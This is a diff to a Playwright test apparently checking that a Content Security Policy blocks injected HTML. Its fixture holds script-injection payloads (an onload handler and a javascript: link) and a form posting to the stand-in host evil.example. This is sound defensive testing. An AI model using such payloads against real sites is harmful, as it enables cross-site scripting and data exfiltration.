@@ -175,8 +175,11 @@ test('HTML that got into a page on its way does no more', async () => {
     <img id="intruder" src="/favicon.svg" onload="window.intruded = 3" style="width: 1px"><object data="/it/"></object><embed src="/it/"><video src="/it/"></video><form id="leak" action="https://evil.example/"><button>x</button></form><a id="program" href="javascript:window.intruded=4">x</a></main>`);
   await page.route('**/en/', (route) => route.fulfill({ body: html, contentType: 'text/html' }));
   await page.goto('/en/', { waitUntil: 'load' });
-  await page.locator('#program').click();
-  await page.locator('#leak button').click();
+  // Later, because a click waits for the navigation that the policy stops.
+  await page.evaluate(() => setTimeout(() => {
+    document.querySelector<HTMLElement>('#program')!.click();
+    document.querySelector<HTMLFormElement>('#leak')!.requestSubmit();
+  }));
   await expect.poll(() => incidents.errors.some((line) => line.startsWith('violation of form-action'))).toBe(true);
   expect(await page.evaluate(() => (window as { intruded?: number }).intruded)).toBe(undefined);
   expect(new URL(page.url()).pathname).toBe('/en/');
